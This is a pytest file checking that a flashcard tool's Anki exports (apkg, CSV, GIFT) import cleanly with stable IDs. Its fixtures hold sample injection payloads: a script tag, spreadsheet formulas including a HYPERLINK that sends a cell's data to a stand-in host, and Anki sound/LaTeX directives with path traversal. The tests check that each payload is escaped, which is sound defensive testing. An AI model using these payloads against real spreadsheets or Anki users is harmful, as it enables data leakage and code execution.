"""Anki reads what trainer writes: packages and text files, imported by the real `anki` package.

Each export is imported, headless, into a fresh collection: notes, GUIDs, fields, tags,
note type and deck are checked, and importing it a second time adds nothing.
"""

from __future__ import annotations

import json
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from trainer.cli import main
from trainer.core.compile import compile_deck
from trainer.interop.anki_write import MODEL_ID, MODEL_NAME, deck_number
from trainer.interop.card_faces import card_faces, to_html

DECK = """\
id: weimar
title: "Weimar & Moscow <b>"
tags: [history, two words]
templates:
  - id: where
    kind: choice
    prompt: Where was {what}?
    answer: where
    choices: 3
  - id: tf
    kind: true_false
    statement: "{what} was at {where}."
    swap: where
chronology:
  - id: order
    facts: [lipetsk, kazan, volsk]
excerpts:
  - id: schools
    pages: 128-129
    title: The schools
    tags: [schools]
    text: >
      In March {{c1::1926}} Germany and the Soviet Union agreed to build an aviation
      school at Lipetsk, a tank school at Kazan and a gas warfare school at Volsk.
    facts:
      - {id: lipetsk, what: the aviation school, where: Lipetsk, year: 1925,
         event: The aviation school opens}
      - {id: kazan, what: the tank school, where: Kazan, year: 1929,
         event: The tank school opens}
      - {id: volsk, what: the gas warfare school, where: Volsk, year: 1928,
         event: The gas school opens}
    questions:
      - id: script
        q: "Is <script>alert(1)</script> & co shown as text?"
        a: "Yes & no"
      - id: formula
        q: "=1+1 is which number?"
        a: 2
      - id: hash
        q: "#1 among the German firms in Russia?"
        a: Rheinmetall
        distractors: [Krupp, Junkers]
        choices: 3
  - id: lenin
    page: 3
    text: Lenin set out from Switzerland in 1917 with several Mensheviks.
"""


@pytest.fixture
def deck(tmp_path: Path, home: Path) -> Path:
    path = tmp_path / "weimar.yaml"
    path.write_text(DECK, encoding="utf-8")
    return path


def import_package(collection: Any, path: Path) -> Any:
    from anki.collection import ImportAnkiPackageOptions, ImportAnkiPackageRequest

    options = ImportAnkiPackageOptions(with_scheduling=True)
    request = ImportAnkiPackageRequest(package_path=str(path), options=options)
    return collection.import_anki_package(request).log


def import_text(collection: Any, path: Path) -> Any:
    from anki.collection import ImportCsvRequest

    metadata = collection.get_csv_metadata(str(path), None)
    return collection.import_csv(ImportCsvRequest(path=str(path), metadata=metadata)).log


def notes_by_guid(collection: Any) -> dict[str, Any]:
    notes = [collection.get_note(nid) for nid in collection.find_notes("")]
    return {note.guid: note for note in notes}


@pytest.mark.parametrize("kind", ["apkg", "csv"])
def test_anki_imports_every_card_once(
    kind: str,
    deck: Path,
    tmp_path: Path,
    new_anki: Callable[[], Any],
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = tmp_path / ("weimar.apkg" if kind == "apkg" else "weimar.txt")
    assert main(["export", kind, str(deck), "-o", str(output)]) == 0
    assert capsys.readouterr().out == f"{output}: 14 notes\n"
    compiled = compile_deck(deck)
    collection = new_anki()
    importer = import_package if kind == "apkg" else import_text
    first = importer(collection, output)
    assert len(first.new) == 14
    notes = notes_by_guid(collection)
    assert sorted(notes) == sorted(card.id for card in compiled.cards)
    excerpts = {excerpt.id: excerpt for excerpt in compiled.deck.excerpts}
    for card in compiled.cards:
        note = notes[card.id]
        faces = card_faces(card, excerpts[card.excerpt_id])
        if kind == "apkg":
            assert note.note_type()["name"] == MODEL_NAME
            assert note.note_type()["id"] == MODEL_ID
            assert list(note.keys()) == ["Front", "Back", "Excerpt", "Source"]
            parts = (faces.front, faces.answer, faces.excerpt, faces.citation)
            assert list(note.values()) == [to_html(part) for part in parts]
        else:
            assert list(note.values()) == [to_html(faces.front), to_html(faces.back)]
        assert sorted(note.tags) == sorted("_".join(tag.split()) for tag in card.tags)
        assert collection.decks.name(note.cards()[0].did) == "Weimar & Moscow <b>"
    script = notes["weimar:schools:script"]
    assert script["Front"].startswith("Is &lt;script&gt;alert(1)&lt;/script&gt; &amp; co")
    assert notes["weimar:schools:formula"]["Front"].startswith("&#61;1+1")
    # Importing again updates nothing and adds nothing: the GUIDs match.
    second = importer(collection, output)
    assert len(second.new) == 0
    assert collection.note_count() == 14
    assert collection.card_count() == 14


def test_the_package_keeps_its_ids_from_one_export_to_the_next(
    deck: Path, tmp_path: Path, new_anki: Callable[[], Any]
) -> None:
    for name in ("first.apkg", "second.apkg"):
        assert main(["export", "apkg", str(deck), "-o", str(tmp_path / name)]) == 0
    collection = new_anki()
    import_package(collection, tmp_path / "first.apkg")
    import_package(collection, tmp_path / "second.apkg")
    assert collection.note_count() == 14
    for name in ("first.apkg", "second.apkg"):
        with zipfile.ZipFile(tmp_path / name) as package:
            (tmp_path / "col.sqlite").write_bytes(package.read("collection.anki2"))
        with closing(sqlite3.connect(tmp_path / "col.sqlite")) as conn:
            models, decks = conn.execute("SELECT models, decks FROM col").fetchone()
        assert json.loads(models)[str(MODEL_ID)]["name"] == MODEL_NAME
        assert json.loads(decks)[str(deck_number("weimar"))]["name"] == "Weimar & Moscow <b>"


def test_the_text_file_tells_anki_how_to_read_it(deck: Path, tmp_path: Path) -> None:
    output = tmp_path / "weimar.txt"
    assert main(["export", "csv", str(deck), "-o", str(output)]) == 0
    lines = output.read_text(encoding="utf-8").splitlines()
    assert lines[:7] == [
        "#separator:tab",
        "#html:true",
        "#notetype:Basic",
        "#columns:Front\tBack\tTags\tDeck\tGUID",
        "#tags column:3",
        "#deck column:4",
        "#guid column:5",
    ]
    # Every cell quoted: a question starting with '#' is not an Anki comment line.
    assert all(line.startswith('"') for line in lines[7:])
    assert any(line.startswith('"#1 among') for line in lines[7:])


def test_no_cell_of_the_text_file_reads_as_a_formula(tmp_path: Path, home: Path) -> None:
    # Front and Back are HTML (a character reference); tags and the deck's name are plain
    # text, so an underscore goes first: '=HYPERLINK(…)' as a title leaked data.
    path = tmp_path / "formula.yaml"
    path.write_text(
        'id: formula\ntitle: "=HYPERLINK(\\"http://x.example/?q=\\"&A1)"\ntags: ["@SUM(1+1)"]\n'
        "excerpts:\n  - {id: e, page: 1, text: t, questions: [{q: '=1+1?', a: A}]}\n",
        encoding="utf-8",
    )
    output = tmp_path / "formula.txt"
    assert main(["export", "csv", str(path), "-o", str(output)]) == 0
    (line,) = output.read_text(encoding="utf-8").splitlines()[7:]
    cells = [cell.strip('"') for cell in line.split("\t")]
    assert cells[0].startswith("&#61;")
    assert cells[2].startswith("_@SUM") and cells[3].startswith("_=HYPERLINK")


def test_no_text_of_a_deck_reaches_anki_as_one_of_its_tags(tmp_path: Path, home: Path) -> None:
    # Anki acts on these in any field: plays a media file, runs LaTeX, speaks.
    path = tmp_path / "tags.yaml"
    path.write_text(
        "id: tags\ntitle: Tags\nexcerpts:\n  - {id: e, page: 1, text: t, questions: [{q: "
        "'Which sound? [sound:../../x.mp3]', a: '[latex]\\\\immediate[/latex] [$]x[/$]'}]}\n",
        encoding="utf-8",
    )
    output = tmp_path / "tags.txt"
    assert main(["export", "csv", str(path), "-o", str(output)]) == 0
    (line,) = output.read_text(encoding="utf-8").splitlines()[7:]
    front, back = (cell.strip('"') for cell in line.split("\t")[:2])
    assert "[" not in front and "[" not in back
    assert "&#91;sound:../../x.mp3]" in front and "&#91;latex]" in back


def test_an_imported_deck_is_exported_by_its_id_without_a_new_collection(
    deck: Path, tmp_path: Path, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["import", str(deck)]) == 0
    output = tmp_path / "by-id.gift"
    assert main(["export", "gift", "weimar", "-o", str(output)]) == 0
    assert output.read_text(encoding="utf-8").count("\n::") == 14
    missing = tmp_path / "none.apkg"
    assert main(["export", "apkg", "no-such-deck", "-o", str(missing)]) == 1
    assert "no-such-deck: no such deck file or deck id" in capsys.readouterr().err
    assert not missing.exists()


def test_no_collection_is_made_to_export_a_deck_file(
    deck: Path, tmp_path: Path, home: Path
) -> None:
    for kind in ("apkg", "gift", "csv"):
        assert main(["export", kind, str(deck), "-o", str(tmp_path / f"x.{kind}")]) == 0
    assert not home.exists()
